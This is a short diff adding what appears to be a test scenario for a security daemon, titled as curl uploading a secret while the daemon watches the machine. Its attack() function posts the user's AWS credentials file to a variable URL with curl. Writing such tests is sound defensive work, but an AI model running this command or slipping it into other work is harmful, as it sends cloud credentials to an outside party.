@@ -1,0 +1,4 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="curl uploads a secret while the daemon watches the whole machine"
+FORM=daemon
+attack() { curl -s -m 15 --data-binary @"$HOME/.aws/credentials" "$URL/"; }
